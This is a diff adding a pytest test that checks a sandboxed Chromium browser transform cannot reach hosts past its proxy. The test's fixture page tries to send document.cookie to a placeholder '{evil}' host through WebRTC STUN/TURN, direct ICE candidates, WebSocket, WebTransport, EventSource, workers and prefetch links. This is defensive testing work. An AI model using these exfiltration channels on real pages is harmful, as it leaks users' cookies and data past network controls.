@@ -5,8 +5,10 @@ import http.server
 import json
 import os
 import pickle
+import select
+import socket
 import threading
-from contextlib import closing, contextmanager
+from contextlib import closing, contextmanager, nullcontext
 
 import pytest
 from torchrl.envs.transforms import Compose
@@ -19,6 +21,7 @@ from torchrl_envs import (
     RewardFunctions,
     StepCounter,
 )
+from torchrl_envs.browser import chromium, own_network
 
 AS_ROOT = {"chromium_sandbox": os.geteuid() != 0}
 SHOP = """<title>Shop</title><h1 id=top>Pears</h1><p class=price data-cents=120>1.20</p>
@@ -204,6 +207,104 @@ peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescripti
             assert f"leads to {evil}" in said[4]
             assert good_state["seen"][0][0] == "/"
         assert evil_state["seen"] == []
+
+
+# Every way out that Chromium has beside its requests; {evil} listens to UDP and TCP.
+_WAYS_OUT = """<title>start</title><p id=out></p>
+<link rel=preconnect href=https://{evil}><link rel=prefetch href=http://{evil}/prefetch>
+<link rel=icon href=http://{evil}/icon><link rel=manifest href=http://{evil}/manifest>
+<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://{evil}/pre"]}]}
+</script><video src=http://{evil}/video></video><object data=http://{evil}/object></object>
+<script>
+const secret = "secret" + document.cookie, [host, port] = "{evil}".split(":");
+const out = document.querySelector("#out"), made = [];
+function connects(server, policy) {
+  const settings = {iceServers: server ? [{urls: server, username: secret, credential: "x"}] : []};
+  const peer = new RTCPeerConnection({...settings, iceTransportPolicy: policy});
+  made.push(peer);
+  peer.createDataChannel("x");
+  return peer.createOffer().then(o => peer.setLocalDescription(o)).then(() => peer);
+}
+async function direct() {
+  const here = await connects("", "all"), there = new RTCPeerConnection();
+  made.push(there);
+  await there.setRemoteDescription(here.localDescription);
+  await there.setLocalDescription(await there.createAnswer());
+  const sdp = there.localDescription.sdp.replace(/a=candidate.*\\r\\n/g, "");
+  await here.setRemoteDescription({type: "answer", sdp});
+  for (const [kind, more] of [["udp", ""], ["tcp", " tcptype passive"]])
+    await here.addIceCandidate({sdpMid: "0",
+      candidate: `candidate:1 1 ${kind} 2113937151 ${host} ${port} typ host${more}`});
+}
+const ways = {
+  stun: () => connects("stun:{evil}", "all"), "turn udp": () => connects("turn:{evil}", "relay"),
+  "turn tcp": () => connects("turn:{evil}?transport=tcp", "relay"),
+  turns: () => connects("turns:{evil}?transport=tcp", "relay"), direct,
+  webtransport: () => new WebTransport("https://{evil}/" + secret).ready,
+  websocket: () => new WebSocket("wss://{evil}/" + secret),
+  events: () => new EventSource("http://{evil}/" + secret),
+  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("http://{evil}/w")`]))),
+  https: () => fetch("https://{evil}/", {mode: "no-cors"}),
+};
+(async () => {
+  for (const [name, way] of Object.entries(ways))
+    try { await way(); out.textContent += name + " tried;" }
+    catch (e) { out.textContent += name + " refused;" }
+  setTimeout(() => { out.textContent += "end" }, 4000);
+})();
+</script>"""
+
+
+@pytest.fixture
+def listener():
+    """A port where every byte is noted that comes over UDP or TCP."""
+    heard, closing = [], threading.Event()
+    with (
+        socket.create_server(("127.0.0.1", 0)) as tcp,
+        socket.socket(type=socket.SOCK_DGRAM) as udp,
+    ):
+        udp.bind(tcp.getsockname())
+
+        def listen():
+            while not closing.is_set():
+                for ready in select.select([tcp, udp], [], [], 0.05)[0]:
+                    if ready is udp:
+                        heard.append(("udp", udp.recv(4096)))
+                        continue
+                    connection, _ = tcp.accept()
+                    with connection:
+                        connection.settimeout(1)
+                        heard.append(("tcp", connection.recv(4096)))
+
+        thread = threading.Thread(target=listen)
+        thread.start()
+        yield f"127.0.0.1:{tcp.getsockname()[1]}", heard
+        closing.set()
+        thread.join()
+
+
+@pytest.mark.parametrize("network", ["its own", "shared"])
+def test_no_page_has_a_way_past_the_proxy(network, browse, listener, monkeypatch, no_leaks):
+    evil, heard = listener
+    ours = own_network.reason_against()
+    if network == "shared":
+        monkeypatch.setattr(chromium, "reason_against", lambda: "this is a test")
+        shown = pytest.warns(chromium.SharedNetworkWarning, match="this is a test")
+    else:
+        shown = nullcontext()
+        assert ours is None, ours
+    with serve({"/": _WAYS_OUT.replace("{evil}", evil)}) as (good, _):
+        with shown:
+            browser = BrowserTransform(allowed_domains=[good], timeout_s=30, **AS_ROOT)
+        calls = [
+            {"action": "navigate", "url": f"http://{good}/"},
+            {"action": "extract", "selector": "#out:has-text('end')"},
+        ]
+        _, said = browse(browser, calls)
+    assert said.endswith("end"), said
+    for way in ("stun", "turn udp", "turn tcp", "turns", "direct", "websocket", "worker"):
+        assert f"{way} tried" in said
+    assert heard == []
 
 
 def test_rows_have_contexts_of_their_own(scripted, call_text, play, no_leaks):
